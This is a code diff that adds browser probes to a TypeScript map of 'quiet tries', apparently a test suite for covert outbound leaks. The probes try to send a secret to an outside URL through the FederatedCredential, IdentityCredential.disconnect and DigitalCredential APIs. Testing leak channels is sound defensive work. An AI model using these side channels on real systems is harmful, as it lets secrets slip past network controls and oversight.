@@ -93,6 +93,29 @@ export const quietTries: Readonly<Record<string, OutsideTry>> = {
     speechSynthesis.speak(new SpeechSynthesisUtterance(url));
     return 'no-word';
   }),
+  'identity-picture': inPage(({ secureUrl, secret }) => {
+    const { FederatedCredential: Credential } = globalThis as {
+      FederatedCredential?: new (data: Record<string, string>) => unknown;
+    };
+    if (!Credential) return 'missing';
+    void new Credential({ id: secret, provider: new URL(secureUrl).origin, iconURL: secureUrl });
+    return 'no-word';
+  }),
+  'identity-end': inPage(async ({ secureUrl, secret }) => {
+    const { IdentityCredential: Credential } = globalThis as {
+      IdentityCredential?: { disconnect?(options: Record<string, string>): Promise<void> };
+    };
+    if (!Credential?.disconnect) return 'missing';
+    await Credential.disconnect({ configURL: secureUrl, clientId: 'leak', accountHint: secret });
+    return 'worked';
+  }),
+  'digital-papers': inPage(async ({ url }) => {
+    if (!('DigitalCredential' in globalThis)) return 'missing';
+    const digital = { requests: [{ protocol: 'openid4vci', data: { credential_offer_uri: url } }] };
+    await navigator.credentials.get({ digital } as CredentialRequestOptions).catch(() => {}); // refused or not, the other is tried too
+    await navigator.credentials.create({ digital } as CredentialCreationOptions);
+    return 'worked';
+  }),
   'install-site': inPage(async ({ url }) => {
     const { install } = navigator as { install?: (url: string) => Promise<unknown> };
     if (!install) return 'missing';
